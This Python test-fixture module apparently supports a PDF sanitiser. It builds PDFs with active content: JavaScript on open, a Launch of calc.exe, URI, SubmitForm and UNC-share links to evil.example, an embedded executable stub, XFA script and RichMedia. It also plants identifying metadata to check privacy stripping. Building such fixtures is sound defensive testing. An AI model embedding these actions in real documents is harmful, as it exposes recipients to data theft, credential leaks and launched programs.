"""PDFs that act, tell or hide: each is an ordinary page with one thing more."""

import io
from collections.abc import Callable

import pikepdf
import pypdfium2
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.files import pdf

SECRET = b"Ana Zielinska"  # what no copy may tell
Change = Callable[[pikepdf.Pdf], None]


def changed(change: Change, **how: object) -> bytes:
    """Two pages of text, changed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("Welder", "Ten years at sea"))) as made:
        made.pages.append(made.pages[0])
        change(made)
        made.save(out, **how)
    return out.getvalue()


def _script(made: pikepdf.Pdf) -> Dictionary:
    return made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _named_script(made: pikepdf.Pdf) -> None:
    names = Array([String("a"), _script(made)])
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _script_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script(made)


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"), Next=_script(made))


def _address_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example/"))


def _when_a_page_opens(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=_script(made))
    made.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def _links(made: pikepdf.Pdf) -> None:
    actions = [
        Dictionary(S=Name.URI, URI=String("https://evil.example/")),
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0])),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.GoToE, F=String("x.pdf")),
        Dictionary(S=Name.ImportData, F=String("x.fdf")),
    ]
    made.pages[0].obj.Annots = Array(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], Border=[0, 0, 0], A=action
        )
        for action in actions
    )


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["tool.exe"] = b"MZ\x90\x00"
    made.Root.Collection = Dictionary(View=Name.H)
    specification = made.attachments["tool.exe"].obj
    made.Root.AF = Array([specification])
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], F=2,
                    FS=specification)]
    )  # fmt: skip


def _form_with_its_own_language(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Stream(made, b"<xdp:xdp xmlns:xdp='x'><script>1</script></xdp:xdp>")
    )


def _script_in_resources(made: pikepdf.Pdf) -> None:
    """Where no program looks for one: what a passage of the page points to."""
    made.pages[0].obj.Resources.Properties = Dictionary(P=Dictionary(A=[_script(made)]))


def _bytes_elsewhere(made: pikepdf.Pdf) -> None:
    picture = Stream(made, b"")
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 1, 1
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    picture.F = Dictionary(FS=Name.URL, F=String("https://evil.example/x"))
    made.pages[0].obj.Resources.XObject = Dictionary(I1=picture)


def _moving_pictures(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], F=2,
                    RichMediaContent=Dictionary(Assets=Dictionary()))]
    )  # fmt: skip


def _bookmarks(made: pikepdf.Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("x"), A=_script(made)))
    made.Root.Outlines = made.make_indirect(Dictionary(First=item, Last=item, Count=1))


ACTING: dict[str, Change] = {
    change.__name__.strip("_"): change
    for change in (
        _named_script, _script_on_opening, _launch, _address_on_opening, _when_a_page_opens, _links,
        _attached, _form_with_its_own_language, _script_in_resources, _bytes_elsewhere,
        _moving_pictures, _bookmarks,
    )
}  # fmt: skip


def signed_by_its_writer(made: pikepdf.Pdf) -> None:
    """A name in every place where programs leave one, and where the photo was taken."""
    made.docinfo["/Author"] = SECRET.decode()
    made.docinfo["/Producer"] = "Writer 7 of " + SECRET.decode()
    made.Root.Metadata = Stream(made, b"<x:xmpmeta>%s</x:xmpmeta>" % SECRET)
    made.Root.Lang = String(SECRET.decode())
    page = made.pages[0].obj
    page.PieceInfo = Dictionary(Word=Dictionary(Private=String(SECRET.decode())))
    page.Metadata = Stream(made, SECRET)
    picture = Stream(made, photo())
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 8, 8
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    picture.Filter = Name.DCTDecode
    picture.Metadata = Stream(made, SECRET)
    page.Resources.XObject = Dictionary(I1=picture)
    page.Contents = Stream(made, b"q 200 0 0 200 100 300 cm /I1 Do Q")


def photo() -> bytes:
    """A red JPEG that says who took it."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x013B] = SECRET.decode()  # artist
    Image.new("RGB", (8, 8), "red").save(out, "JPEG", exif=exif, comment=SECRET)
    return out.getvalue()


def filled_in(made: pikepdf.Pdf) -> None:
    """A form: what somebody wrote in it is on the page for a reader, but not of the page."""
    look = Stream(made, b"0 0 1 rg 0 0 100 20 re f")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 20])
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Ana"),
            Rect=Array([60, 600, 160, 620]), F=4, AP=Dictionary(N=look),
            AA=Dictionary(K=_script(made)),
        )
    )  # fmt: skip
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def looks(content: bytes, *, forms: bool = False) -> list[bytes]:
    """Return how each page of a PDF is drawn."""
    document = pypdfium2.PdfDocument(content)
    if forms:
        document.init_forms()
    return [bytes(page.render(scale=0.5, may_draw_forms=forms).buffer) for page in document]


def words_in(content: bytes) -> set[str]:
    """Return every key, and every name that is a value, anywhere in a PDF."""
    words: set[str] = set()
    with pikepdf.open(io.BytesIO(content)) as opened:
        waiting: list[object] = [opened.trailer, *opened.objects]
        while waiting:
            one = waiting.pop()
            if isinstance(one, Dictionary | Stream):
                words |= set(one.keys())
                inside = [one.get(key) for key in one.keys()]  # noqa: SIM118  # no dict
            elif isinstance(one, Array):
                inside = list(one)
            else:
                words |= {str(one)} if isinstance(one, Name) else set()
                continue
            waiting += [
                each for each in inside
                if isinstance(each, Name)
                or (isinstance(each, Dictionary | Array) and not each.is_indirect)
            ]  # fmt: skip
    return words
